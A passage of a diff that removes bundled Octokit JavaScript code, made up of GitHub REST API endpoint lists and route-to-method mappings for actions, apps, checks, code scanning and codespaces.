-      "GET /user/repository_invitations",
-      "GET /user/social_accounts",
-      "GET /user/ssh_signing_keys",
-      "GET /user/starred",
-      "GET /user/subscriptions",
-      "GET /user/teams",
-      "GET /users",
-      "GET /users/{username}/attestations/{subject_digest}",
-      "GET /users/{username}/events",
-      "GET /users/{username}/events/orgs/{org}",
-      "GET /users/{username}/events/public",
-      "GET /users/{username}/followers",
-      "GET /users/{username}/following",
-      "GET /users/{username}/gists",
-      "GET /users/{username}/gpg_keys",
-      "GET /users/{username}/keys",
-      "GET /users/{username}/orgs",
-      "GET /users/{username}/packages",
-      "GET /users/{username}/projects",
-      "GET /users/{username}/received_events",
-      "GET /users/{username}/received_events/public",
-      "GET /users/{username}/repos",
-      "GET /users/{username}/social_accounts",
-      "GET /users/{username}/ssh_signing_keys",
-      "GET /users/{username}/starred",
-      "GET /users/{username}/subscriptions"
-    ];
-    function isPaginatingEndpoint(arg) {
-      if (typeof arg === "string") {
-        return paginatingEndpoints.includes(arg);
-      } else {
-        return false;
-      }
-    }
-    function paginateRest(octokit) {
-      return {
-        paginate: Object.assign(paginate.bind(null, octokit), {
-          iterator: iterator.bind(null, octokit)
-        })
-      };
-    }
-    paginateRest.VERSION = VERSION2;
-  }
-});
-
-// node_modules/@octokit/plugin-rest-endpoint-methods/dist-node/index.js
-var require_dist_node11 = __commonJS({
-  "node_modules/@octokit/plugin-rest-endpoint-methods/dist-node/index.js"(exports2, module2) {
-    "use strict";
-    var __defProp2 = Object.defineProperty;
-    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
-    var __getOwnPropNames2 = Object.getOwnPropertyNames;
-    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
-    var __export2 = (target, all) => {
-      for (var name in all)
-        __defProp2(target, name, { get: all[name], enumerable: true });
-    };
-    var __copyProps2 = (to, from, except, desc) => {
-      if (from && typeof from === "object" || typeof from === "function") {
-        for (let key2 of __getOwnPropNames2(from))
-          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
-            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
-      }
-      return to;
-    };
-    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
-    var index_exports = {};
-    __export2(index_exports, {
-      legacyRestEndpointMethods: () => legacyRestEndpointMethods,
-      restEndpointMethods: () => restEndpointMethods
-    });
-    module2.exports = __toCommonJS2(index_exports);
-    var VERSION2 = "13.3.2-cjs.1";
-    var Endpoints = {
-      actions: {
-        addCustomLabelsToSelfHostedRunnerForOrg: [
-          "POST /orgs/{org}/actions/runners/{runner_id}/labels"
-        ],
-        addCustomLabelsToSelfHostedRunnerForRepo: [
-          "POST /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
-        ],
-        addRepoAccessToSelfHostedRunnerGroupInOrg: [
-          "PUT /orgs/{org}/actions/runner-groups/{runner_group_id}/repositories/{repository_id}"
-        ],
-        addSelectedRepoToOrgSecret: [
-          "PUT /orgs/{org}/actions/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        addSelectedRepoToOrgVariable: [
-          "PUT /orgs/{org}/actions/variables/{name}/repositories/{repository_id}"
-        ],
-        approveWorkflowRun: [
-          "POST /repos/{owner}/{repo}/actions/runs/{run_id}/approve"
-        ],
-        cancelWorkflowRun: [
-          "POST /repos/{owner}/{repo}/actions/runs/{run_id}/cancel"
-        ],
-        createEnvironmentVariable: [
-          "POST /repos/{owner}/{repo}/environments/{environment_name}/variables"
-        ],
-        createOrUpdateEnvironmentSecret: [
-          "PUT /repos/{owner}/{repo}/environments/{environment_name}/secrets/{secret_name}"
-        ],
-        createOrUpdateOrgSecret: ["PUT /orgs/{org}/actions/secrets/{secret_name}"],
-        createOrUpdateRepoSecret: [
-          "PUT /repos/{owner}/{repo}/actions/secrets/{secret_name}"
-        ],
-        createOrgVariable: ["POST /orgs/{org}/actions/variables"],
-        createRegistrationTokenForOrg: [
-          "POST /orgs/{org}/actions/runners/registration-token"
-        ],
-        createRegistrationTokenForRepo: [
-          "POST /repos/{owner}/{repo}/actions/runners/registration-token"
-        ],
-        createRemoveTokenForOrg: ["POST /orgs/{org}/actions/runners/remove-token"],
-        createRemoveTokenForRepo: [
-          "POST /repos/{owner}/{repo}/actions/runners/remove-token"
-        ],
-        createRepoVariable: ["POST /repos/{owner}/{repo}/actions/variables"],
-        createWorkflowDispatch: [
-          "POST /repos/{owner}/{repo}/actions/workflows/{workflow_id}/dispatches"
-        ],
-        deleteActionsCacheById: [
-          "DELETE /repos/{owner}/{repo}/actions/caches/{cache_id}"
-        ],
-        deleteActionsCacheByKey: [
-          "DELETE /repos/{owner}/{repo}/actions/caches{?key,ref}"
-        ],
-        deleteArtifact: [
-          "DELETE /repos/{owner}/{repo}/actions/artifacts/{artifact_id}"
-        ],
-        deleteEnvironmentSecret: [
-          "DELETE /repos/{owner}/{repo}/environments/{environment_name}/secrets/{secret_name}"
-        ],
-        deleteEnvironmentVariable: [
-          "DELETE /repos/{owner}/{repo}/environments/{environment_name}/variables/{name}"
-        ],
-        deleteOrgSecret: ["DELETE /orgs/{org}/actions/secrets/{secret_name}"],
-        deleteOrgVariable: ["DELETE /orgs/{org}/actions/variables/{name}"],
-        deleteRepoSecret: [
-          "DELETE /repos/{owner}/{repo}/actions/secrets/{secret_name}"
-        ],
-        deleteRepoVariable: [
-          "DELETE /repos/{owner}/{repo}/actions/variables/{name}"
-        ],
-        deleteSelfHostedRunnerFromOrg: [
-          "DELETE /orgs/{org}/actions/runners/{runner_id}"
-        ],
-        deleteSelfHostedRunnerFromRepo: [
-          "DELETE /repos/{owner}/{repo}/actions/runners/{runner_id}"
-        ],
-        deleteWorkflowRun: ["DELETE /repos/{owner}/{repo}/actions/runs/{run_id}"],
-        deleteWorkflowRunLogs: [
-          "DELETE /repos/{owner}/{repo}/actions/runs/{run_id}/logs"
-        ],
-        disableSelectedRepositoryGithubActionsOrganization: [
-          "DELETE /orgs/{org}/actions/permissions/repositories/{repository_id}"
-        ],
-        disableWorkflow: [
-          "PUT /repos/{owner}/{repo}/actions/workflows/{workflow_id}/disable"
-        ],
-        downloadArtifact: [
-          "GET /repos/{owner}/{repo}/actions/artifacts/{artifact_id}/{archive_format}"
-        ],
-        downloadJobLogsForWorkflowRun: [
-          "GET /repos/{owner}/{repo}/actions/jobs/{job_id}/logs"
-        ],
-        downloadWorkflowRunAttemptLogs: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/logs"
-        ],
-        downloadWorkflowRunLogs: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/logs"
-        ],
-        enableSelectedRepositoryGithubActionsOrganization: [
-          "PUT /orgs/{org}/actions/permissions/repositories/{repository_id}"
-        ],
-        enableWorkflow: [
-          "PUT /repos/{owner}/{repo}/actions/workflows/{workflow_id}/enable"
-        ],
-        forceCancelWorkflowRun: [
-          "POST /repos/{owner}/{repo}/actions/runs/{run_id}/force-cancel"
-        ],
-        generateRunnerJitconfigForOrg: [
-          "POST /orgs/{org}/actions/runners/generate-jitconfig"
-        ],
-        generateRunnerJitconfigForRepo: [
-          "POST /repos/{owner}/{repo}/actions/runners/generate-jitconfig"
-        ],
-        getActionsCacheList: ["GET /repos/{owner}/{repo}/actions/caches"],
-        getActionsCacheUsage: ["GET /repos/{owner}/{repo}/actions/cache/usage"],
-        getActionsCacheUsageByRepoForOrg: [
-          "GET /orgs/{org}/actions/cache/usage-by-repository"
-        ],
-        getActionsCacheUsageForOrg: ["GET /orgs/{org}/actions/cache/usage"],
-        getAllowedActionsOrganization: [
-          "GET /orgs/{org}/actions/permissions/selected-actions"
-        ],
-        getAllowedActionsRepository: [
-          "GET /repos/{owner}/{repo}/actions/permissions/selected-actions"
-        ],
-        getArtifact: ["GET /repos/{owner}/{repo}/actions/artifacts/{artifact_id}"],
-        getCustomOidcSubClaimForRepo: [
-          "GET /repos/{owner}/{repo}/actions/oidc/customization/sub"
-        ],
-        getEnvironmentPublicKey: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets/public-key"
-        ],
-        getEnvironmentSecret: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets/{secret_name}"
-        ],
-        getEnvironmentVariable: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/variables/{name}"
-        ],
-        getGithubActionsDefaultWorkflowPermissionsOrganization: [
-          "GET /orgs/{org}/actions/permissions/workflow"
-        ],
-        getGithubActionsDefaultWorkflowPermissionsRepository: [
-          "GET /repos/{owner}/{repo}/actions/permissions/workflow"
-        ],
-        getGithubActionsPermissionsOrganization: [
-          "GET /orgs/{org}/actions/permissions"
-        ],
-        getGithubActionsPermissionsRepository: [
-          "GET /repos/{owner}/{repo}/actions/permissions"
-        ],
-        getJobForWorkflowRun: ["GET /repos/{owner}/{repo}/actions/jobs/{job_id}"],
-        getOrgPublicKey: ["GET /orgs/{org}/actions/secrets/public-key"],
-        getOrgSecret: ["GET /orgs/{org}/actions/secrets/{secret_name}"],
-        getOrgVariable: ["GET /orgs/{org}/actions/variables/{name}"],
-        getPendingDeploymentsForRun: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/pending_deployments"
-        ],
-        getRepoPermissions: [
-          "GET /repos/{owner}/{repo}/actions/permissions",
-          {},
-          { renamed: ["actions", "getGithubActionsPermissionsRepository"] }
-        ],
-        getRepoPublicKey: ["GET /repos/{owner}/{repo}/actions/secrets/public-key"],
-        getRepoSecret: ["GET /repos/{owner}/{repo}/actions/secrets/{secret_name}"],
-        getRepoVariable: ["GET /repos/{owner}/{repo}/actions/variables/{name}"],
-        getReviewsForRun: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/approvals"
-        ],
-        getSelfHostedRunnerForOrg: ["GET /orgs/{org}/actions/runners/{runner_id}"],
-        getSelfHostedRunnerForRepo: [
-          "GET /repos/{owner}/{repo}/actions/runners/{runner_id}"
-        ],
-        getWorkflow: ["GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}"],
-        getWorkflowAccessToRepository: [
-          "GET /repos/{owner}/{repo}/actions/permissions/access"
-        ],
-        getWorkflowRun: ["GET /repos/{owner}/{repo}/actions/runs/{run_id}"],
-        getWorkflowRunAttempt: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}"
-        ],
-        getWorkflowRunUsage: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/timing"
-        ],
-        getWorkflowUsage: [
-          "GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/timing"
-        ],
-        listArtifactsForRepo: ["GET /repos/{owner}/{repo}/actions/artifacts"],
-        listEnvironmentSecrets: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets"
-        ],
-        listEnvironmentVariables: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/variables"
-        ],
-        listJobsForWorkflowRun: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/jobs"
-        ],
-        listJobsForWorkflowRunAttempt: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/jobs"
-        ],
-        listLabelsForSelfHostedRunnerForOrg: [
-          "GET /orgs/{org}/actions/runners/{runner_id}/labels"
-        ],
-        listLabelsForSelfHostedRunnerForRepo: [
-          "GET /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
-        ],
-        listOrgSecrets: ["GET /orgs/{org}/actions/secrets"],
-        listOrgVariables: ["GET /orgs/{org}/actions/variables"],
-        listRepoOrganizationSecrets: [
-          "GET /repos/{owner}/{repo}/actions/organization-secrets"
-        ],
-        listRepoOrganizationVariables: [
-          "GET /repos/{owner}/{repo}/actions/organization-variables"
-        ],
-        listRepoSecrets: ["GET /repos/{owner}/{repo}/actions/secrets"],
-        listRepoVariables: ["GET /repos/{owner}/{repo}/actions/variables"],
-        listRepoWorkflows: ["GET /repos/{owner}/{repo}/actions/workflows"],
-        listRunnerApplicationsForOrg: ["GET /orgs/{org}/actions/runners/downloads"],
-        listRunnerApplicationsForRepo: [
-          "GET /repos/{owner}/{repo}/actions/runners/downloads"
-        ],
-        listSelectedReposForOrgSecret: [
-          "GET /orgs/{org}/actions/secrets/{secret_name}/repositories"
-        ],
-        listSelectedReposForOrgVariable: [
-          "GET /orgs/{org}/actions/variables/{name}/repositories"
-        ],
-        listSelectedRepositoriesEnabledGithubActionsOrganization: [
-          "GET /orgs/{org}/actions/permissions/repositories"
-        ],
-        listSelfHostedRunnersForOrg: ["GET /orgs/{org}/actions/runners"],
-        listSelfHostedRunnersForRepo: ["GET /repos/{owner}/{repo}/actions/runners"],
-        listWorkflowRunArtifacts: [
-          "GET /repos/{owner}/{repo}/actions/runs/{run_id}/artifacts"
-        ],
-        listWorkflowRuns: [
-          "GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/runs"
-        ],
-        listWorkflowRunsForRepo: ["GET /repos/{owner}/{repo}/actions/runs"],
-        reRunJobForWorkflowRun: [
-          "POST /repos/{owner}/{repo}/actions/jobs/{job_id}/rerun"
-        ],
-        reRunWorkflow: ["POST /repos/{owner}/{repo}/actions/runs/{run_id}/rerun"],
-        reRunWorkflowFailedJobs: [
-          "POST /repos/{owner}/{repo}/actions/runs/{run_id}/rerun-failed-jobs"
-        ],
-        removeAllCustomLabelsFromSelfHostedRunnerForOrg: [
-          "DELETE /orgs/{org}/actions/runners/{runner_id}/labels"
-        ],
-        removeAllCustomLabelsFromSelfHostedRunnerForRepo: [
-          "DELETE /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
-        ],
-        removeCustomLabelFromSelfHostedRunnerForOrg: [
-          "DELETE /orgs/{org}/actions/runners/{runner_id}/labels/{name}"
-        ],
-        removeCustomLabelFromSelfHostedRunnerForRepo: [
-          "DELETE /repos/{owner}/{repo}/actions/runners/{runner_id}/labels/{name}"
-        ],
-        removeSelectedRepoFromOrgSecret: [
-          "DELETE /orgs/{org}/actions/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        removeSelectedRepoFromOrgVariable: [
-          "DELETE /orgs/{org}/actions/variables/{name}/repositories/{repository_id}"
-        ],
-        reviewCustomGatesForRun: [
-          "POST /repos/{owner}/{repo}/actions/runs/{run_id}/deployment_protection_rule"
-        ],
-        reviewPendingDeploymentsForRun: [
-          "POST /repos/{owner}/{repo}/actions/runs/{run_id}/pending_deployments"
-        ],
-        setAllowedActionsOrganization: [
-          "PUT /orgs/{org}/actions/permissions/selected-actions"
-        ],
-        setAllowedActionsRepository: [
-          "PUT /repos/{owner}/{repo}/actions/permissions/selected-actions"
-        ],
-        setCustomLabelsForSelfHostedRunnerForOrg: [
-          "PUT /orgs/{org}/actions/runners/{runner_id}/labels"
-        ],
-        setCustomLabelsForSelfHostedRunnerForRepo: [
-          "PUT /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
-        ],
-        setCustomOidcSubClaimForRepo: [
-          "PUT /repos/{owner}/{repo}/actions/oidc/customization/sub"
-        ],
-        setGithubActionsDefaultWorkflowPermissionsOrganization: [
-          "PUT /orgs/{org}/actions/permissions/workflow"
-        ],
-        setGithubActionsDefaultWorkflowPermissionsRepository: [
-          "PUT /repos/{owner}/{repo}/actions/permissions/workflow"
-        ],
-        setGithubActionsPermissionsOrganization: [
-          "PUT /orgs/{org}/actions/permissions"
-        ],
-        setGithubActionsPermissionsRepository: [
-          "PUT /repos/{owner}/{repo}/actions/permissions"
-        ],
-        setSelectedReposForOrgSecret: [
-          "PUT /orgs/{org}/actions/secrets/{secret_name}/repositories"
-        ],
-        setSelectedReposForOrgVariable: [
-          "PUT /orgs/{org}/actions/variables/{name}/repositories"
-        ],
-        setSelectedRepositoriesEnabledGithubActionsOrganization: [
-          "PUT /orgs/{org}/actions/permissions/repositories"
-        ],
-        setWorkflowAccessToRepository: [
-          "PUT /repos/{owner}/{repo}/actions/permissions/access"
-        ],
-        updateEnvironmentVariable: [
-          "PATCH /repos/{owner}/{repo}/environments/{environment_name}/variables/{name}"
-        ],
-        updateOrgVariable: ["PATCH /orgs/{org}/actions/variables/{name}"],
-        updateRepoVariable: [
-          "PATCH /repos/{owner}/{repo}/actions/variables/{name}"
-        ]
-      },
-      activity: {
-        checkRepoIsStarredByAuthenticatedUser: ["GET /user/starred/{owner}/{repo}"],
-        deleteRepoSubscription: ["DELETE /repos/{owner}/{repo}/subscription"],
-        deleteThreadSubscription: [
-          "DELETE /notifications/threads/{thread_id}/subscription"
-        ],
-        getFeeds: ["GET /feeds"],
-        getRepoSubscription: ["GET /repos/{owner}/{repo}/subscription"],
-        getThread: ["GET /notifications/threads/{thread_id}"],
-        getThreadSubscriptionForAuthenticatedUser: [
-          "GET /notifications/threads/{thread_id}/subscription"
-        ],
-        listEventsForAuthenticatedUser: ["GET /users/{username}/events"],
-        listNotificationsForAuthenticatedUser: ["GET /notifications"],
-        listOrgEventsForAuthenticatedUser: [
-          "GET /users/{username}/events/orgs/{org}"
-        ],
-        listPublicEvents: ["GET /events"],
-        listPublicEventsForRepoNetwork: ["GET /networks/{owner}/{repo}/events"],
-        listPublicEventsForUser: ["GET /users/{username}/events/public"],
-        listPublicOrgEvents: ["GET /orgs/{org}/events"],
-        listReceivedEventsForUser: ["GET /users/{username}/received_events"],
-        listReceivedPublicEventsForUser: [
-          "GET /users/{username}/received_events/public"
-        ],
-        listRepoEvents: ["GET /repos/{owner}/{repo}/events"],
-        listRepoNotificationsForAuthenticatedUser: [
-          "GET /repos/{owner}/{repo}/notifications"
-        ],
-        listReposStarredByAuthenticatedUser: ["GET /user/starred"],
-        listReposStarredByUser: ["GET /users/{username}/starred"],
-        listReposWatchedByUser: ["GET /users/{username}/subscriptions"],
-        listStargazersForRepo: ["GET /repos/{owner}/{repo}/stargazers"],
-        listWatchedReposForAuthenticatedUser: ["GET /user/subscriptions"],
-        listWatchersForRepo: ["GET /repos/{owner}/{repo}/subscribers"],
-        markNotificationsAsRead: ["PUT /notifications"],
-        markRepoNotificationsAsRead: ["PUT /repos/{owner}/{repo}/notifications"],
-        markThreadAsDone: ["DELETE /notifications/threads/{thread_id}"],
-        markThreadAsRead: ["PATCH /notifications/threads/{thread_id}"],
-        setRepoSubscription: ["PUT /repos/{owner}/{repo}/subscription"],
-        setThreadSubscription: [
-          "PUT /notifications/threads/{thread_id}/subscription"
-        ],
-        starRepoForAuthenticatedUser: ["PUT /user/starred/{owner}/{repo}"],
-        unstarRepoForAuthenticatedUser: ["DELETE /user/starred/{owner}/{repo}"]
-      },
-      apps: {
-        addRepoToInstallation: [
-          "PUT /user/installations/{installation_id}/repositories/{repository_id}",
-          {},
-          { renamed: ["apps", "addRepoToInstallationForAuthenticatedUser"] }
-        ],
-        addRepoToInstallationForAuthenticatedUser: [
-          "PUT /user/installations/{installation_id}/repositories/{repository_id}"
-        ],
-        checkToken: ["POST /applications/{client_id}/token"],
-        createFromManifest: ["POST /app-manifests/{code}/conversions"],
-        createInstallationAccessToken: [
-          "POST /app/installations/{installation_id}/access_tokens"
-        ],
-        deleteAuthorization: ["DELETE /applications/{client_id}/grant"],
-        deleteInstallation: ["DELETE /app/installations/{installation_id}"],
-        deleteToken: ["DELETE /applications/{client_id}/token"],
-        getAuthenticated: ["GET /app"],
-        getBySlug: ["GET /apps/{app_slug}"],
-        getInstallation: ["GET /app/installations/{installation_id}"],
-        getOrgInstallation: ["GET /orgs/{org}/installation"],
-        getRepoInstallation: ["GET /repos/{owner}/{repo}/installation"],
-        getSubscriptionPlanForAccount: [
-          "GET /marketplace_listing/accounts/{account_id}"
-        ],
-        getSubscriptionPlanForAccountStubbed: [
-          "GET /marketplace_listing/stubbed/accounts/{account_id}"
-        ],
-        getUserInstallation: ["GET /users/{username}/installation"],
-        getWebhookConfigForApp: ["GET /app/hook/config"],
-        getWebhookDelivery: ["GET /app/hook/deliveries/{delivery_id}"],
-        listAccountsForPlan: ["GET /marketplace_listing/plans/{plan_id}/accounts"],
-        listAccountsForPlanStubbed: [
-          "GET /marketplace_listing/stubbed/plans/{plan_id}/accounts"
-        ],
-        listInstallationReposForAuthenticatedUser: [
-          "GET /user/installations/{installation_id}/repositories"
-        ],
-        listInstallationRequestsForAuthenticatedApp: [
-          "GET /app/installation-requests"
-        ],
-        listInstallations: ["GET /app/installations"],
-        listInstallationsForAuthenticatedUser: ["GET /user/installations"],
-        listPlans: ["GET /marketplace_listing/plans"],
-        listPlansStubbed: ["GET /marketplace_listing/stubbed/plans"],
-        listReposAccessibleToInstallation: ["GET /installation/repositories"],
-        listSubscriptionsForAuthenticatedUser: ["GET /user/marketplace_purchases"],
-        listSubscriptionsForAuthenticatedUserStubbed: [
-          "GET /user/marketplace_purchases/stubbed"
-        ],
-        listWebhookDeliveries: ["GET /app/hook/deliveries"],
-        redeliverWebhookDelivery: [
-          "POST /app/hook/deliveries/{delivery_id}/attempts"
-        ],
-        removeRepoFromInstallation: [
-          "DELETE /user/installations/{installation_id}/repositories/{repository_id}",
-          {},
-          { renamed: ["apps", "removeRepoFromInstallationForAuthenticatedUser"] }
-        ],
-        removeRepoFromInstallationForAuthenticatedUser: [
-          "DELETE /user/installations/{installation_id}/repositories/{repository_id}"
-        ],
-        resetToken: ["PATCH /applications/{client_id}/token"],
-        revokeInstallationAccessToken: ["DELETE /installation/token"],
-        scopeToken: ["POST /applications/{client_id}/token/scoped"],
-        suspendInstallation: ["PUT /app/installations/{installation_id}/suspended"],
-        unsuspendInstallation: [
-          "DELETE /app/installations/{installation_id}/suspended"
-        ],
-        updateWebhookConfigForApp: ["PATCH /app/hook/config"]
-      },
-      billing: {
-        getGithubActionsBillingOrg: ["GET /orgs/{org}/settings/billing/actions"],
-        getGithubActionsBillingUser: [
-          "GET /users/{username}/settings/billing/actions"
-        ],
-        getGithubBillingUsageReportOrg: [
-          "GET /organizations/{org}/settings/billing/usage"
-        ],
-        getGithubPackagesBillingOrg: ["GET /orgs/{org}/settings/billing/packages"],
-        getGithubPackagesBillingUser: [
-          "GET /users/{username}/settings/billing/packages"
-        ],
-        getSharedStorageBillingOrg: [
-          "GET /orgs/{org}/settings/billing/shared-storage"
-        ],
-        getSharedStorageBillingUser: [
-          "GET /users/{username}/settings/billing/shared-storage"
-        ]
-      },
-      checks: {
-        create: ["POST /repos/{owner}/{repo}/check-runs"],
-        createSuite: ["POST /repos/{owner}/{repo}/check-suites"],
-        get: ["GET /repos/{owner}/{repo}/check-runs/{check_run_id}"],
-        getSuite: ["GET /repos/{owner}/{repo}/check-suites/{check_suite_id}"],
-        listAnnotations: [
-          "GET /repos/{owner}/{repo}/check-runs/{check_run_id}/annotations"
-        ],
-        listForRef: ["GET /repos/{owner}/{repo}/commits/{ref}/check-runs"],
-        listForSuite: [
-          "GET /repos/{owner}/{repo}/check-suites/{check_suite_id}/check-runs"
-        ],
-        listSuitesForRef: ["GET /repos/{owner}/{repo}/commits/{ref}/check-suites"],
-        rerequestRun: [
-          "POST /repos/{owner}/{repo}/check-runs/{check_run_id}/rerequest"
-        ],
-        rerequestSuite: [
-          "POST /repos/{owner}/{repo}/check-suites/{check_suite_id}/rerequest"
-        ],
-        setSuitesPreferences: [
-          "PATCH /repos/{owner}/{repo}/check-suites/preferences"
-        ],
-        update: ["PATCH /repos/{owner}/{repo}/check-runs/{check_run_id}"]
-      },
-      codeScanning: {
-        commitAutofix: [
-          "POST /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/autofix/commits"
-        ],
-        createAutofix: [
-          "POST /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/autofix"
-        ],
-        createVariantAnalysis: [
-          "POST /repos/{owner}/{repo}/code-scanning/codeql/variant-analyses"
-        ],
-        deleteAnalysis: [
-          "DELETE /repos/{owner}/{repo}/code-scanning/analyses/{analysis_id}{?confirm_delete}"
-        ],
-        deleteCodeqlDatabase: [
-          "DELETE /repos/{owner}/{repo}/code-scanning/codeql/databases/{language}"
-        ],
-        getAlert: [
-          "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}",
-          {},
-          { renamedParameters: { alert_id: "alert_number" } }
-        ],
-        getAnalysis: [
-          "GET /repos/{owner}/{repo}/code-scanning/analyses/{analysis_id}"
-        ],
-        getAutofix: [
-          "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/autofix"
-        ],
-        getCodeqlDatabase: [
-          "GET /repos/{owner}/{repo}/code-scanning/codeql/databases/{language}"
-        ],
-        getDefaultSetup: ["GET /repos/{owner}/{repo}/code-scanning/default-setup"],
-        getSarif: ["GET /repos/{owner}/{repo}/code-scanning/sarifs/{sarif_id}"],
-        getVariantAnalysis: [
-          "GET /repos/{owner}/{repo}/code-scanning/codeql/variant-analyses/{codeql_variant_analysis_id}"
-        ],
-        getVariantAnalysisRepoTask: [
-          "GET /repos/{owner}/{repo}/code-scanning/codeql/variant-analyses/{codeql_variant_analysis_id}/repos/{repo_owner}/{repo_name}"
-        ],
-        listAlertInstances: [
-          "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/instances"
-        ],
-        listAlertsForOrg: ["GET /orgs/{org}/code-scanning/alerts"],
-        listAlertsForRepo: ["GET /repos/{owner}/{repo}/code-scanning/alerts"],
-        listAlertsInstances: [
-          "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/instances",
-          {},
-          { renamed: ["codeScanning", "listAlertInstances"] }
-        ],
-        listCodeqlDatabases: [
-          "GET /repos/{owner}/{repo}/code-scanning/codeql/databases"
-        ],
-        listRecentAnalyses: ["GET /repos/{owner}/{repo}/code-scanning/analyses"],
-        updateAlert: [
-          "PATCH /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}"
-        ],
-        updateDefaultSetup: [
-          "PATCH /repos/{owner}/{repo}/code-scanning/default-setup"
-        ],
-        uploadSarif: ["POST /repos/{owner}/{repo}/code-scanning/sarifs"]
-      },
-      codeSecurity: {
-        attachConfiguration: [
-          "POST /orgs/{org}/code-security/configurations/{configuration_id}/attach"
-        ],
-        attachEnterpriseConfiguration: [
-          "POST /enterprises/{enterprise}/code-security/configurations/{configuration_id}/attach"
-        ],
-        createConfiguration: ["POST /orgs/{org}/code-security/configurations"],
-        createConfigurationForEnterprise: [
-          "POST /enterprises/{enterprise}/code-security/configurations"
-        ],
-        deleteConfiguration: [
-          "DELETE /orgs/{org}/code-security/configurations/{configuration_id}"
-        ],
-        deleteConfigurationForEnterprise: [
-          "DELETE /enterprises/{enterprise}/code-security/configurations/{configuration_id}"
-        ],
-        detachConfiguration: [
-          "DELETE /orgs/{org}/code-security/configurations/detach"
-        ],
-        getConfiguration: [
-          "GET /orgs/{org}/code-security/configurations/{configuration_id}"
-        ],
-        getConfigurationForRepository: [
-          "GET /repos/{owner}/{repo}/code-security-configuration"
-        ],
-        getConfigurationsForEnterprise: [
-          "GET /enterprises/{enterprise}/code-security/configurations"
-        ],
-        getConfigurationsForOrg: ["GET /orgs/{org}/code-security/configurations"],
-        getDefaultConfigurations: [
-          "GET /orgs/{org}/code-security/configurations/defaults"
-        ],
-        getDefaultConfigurationsForEnterprise: [
-          "GET /enterprises/{enterprise}/code-security/configurations/defaults"
-        ],
-        getRepositoriesForConfiguration: [
-          "GET /orgs/{org}/code-security/configurations/{configuration_id}/repositories"
-        ],
-        getRepositoriesForEnterpriseConfiguration: [
-          "GET /enterprises/{enterprise}/code-security/configurations/{configuration_id}/repositories"
-        ],
-        getSingleConfigurationForEnterprise: [
-          "GET /enterprises/{enterprise}/code-security/configurations/{configuration_id}"
-        ],
-        setConfigurationAsDefault: [
-          "PUT /orgs/{org}/code-security/configurations/{configuration_id}/defaults"
-        ],
-        setConfigurationAsDefaultForEnterprise: [
-          "PUT /enterprises/{enterprise}/code-security/configurations/{configuration_id}/defaults"
-        ],
-        updateConfiguration: [
-          "PATCH /orgs/{org}/code-security/configurations/{configuration_id}"
-        ],
-        updateEnterpriseConfiguration: [
-          "PATCH /enterprises/{enterprise}/code-security/configurations/{configuration_id}"
-        ]
-      },
-      codesOfConduct: {
-        getAllCodesOfConduct: ["GET /codes_of_conduct"],
-        getConductCode: ["GET /codes_of_conduct/{key}"]
-      },
-      codespaces: {
-        addRepositoryForSecretForAuthenticatedUser: [
-          "PUT /user/codespaces/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        addSelectedRepoToOrgSecret: [
-          "PUT /orgs/{org}/codespaces/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        checkPermissionsForDevcontainer: [
-          "GET /repos/{owner}/{repo}/codespaces/permissions_check"
-        ],
-        codespaceMachinesForAuthenticatedUser: [
-          "GET /user/codespaces/{codespace_name}/machines"
-        ],
-        createForAuthenticatedUser: ["POST /user/codespaces"],
-        createOrUpdateOrgSecret: [
-          "PUT /orgs/{org}/codespaces/secrets/{secret_name}"
-        ],
-        createOrUpdateRepoSecret: [
-          "PUT /repos/{owner}/{repo}/codespaces/secrets/{secret_name}"
-        ],
-        createOrUpdateSecretForAuthenticatedUser: [
-          "PUT /user/codespaces/secrets/{secret_name}"
-        ],
-        createWithPrForAuthenticatedUser: [
-          "POST /repos/{owner}/{repo}/pulls/{pull_number}/codespaces"
-        ],
-        createWithRepoForAuthenticatedUser: [
-          "POST /repos/{owner}/{repo}/codespaces"
-        ],
-        deleteForAuthenticatedUser: ["DELETE /user/codespaces/{codespace_name}"],
-        deleteFromOrganization: [
-          "DELETE /orgs/{org}/members/{username}/codespaces/{codespace_name}"
-        ],
-        deleteOrgSecret: ["DELETE /orgs/{org}/codespaces/secrets/{secret_name}"],
-        deleteRepoSecret: [
-          "DELETE /repos/{owner}/{repo}/codespaces/secrets/{secret_name}"
-        ],
-        deleteSecretForAuthenticatedUser: [
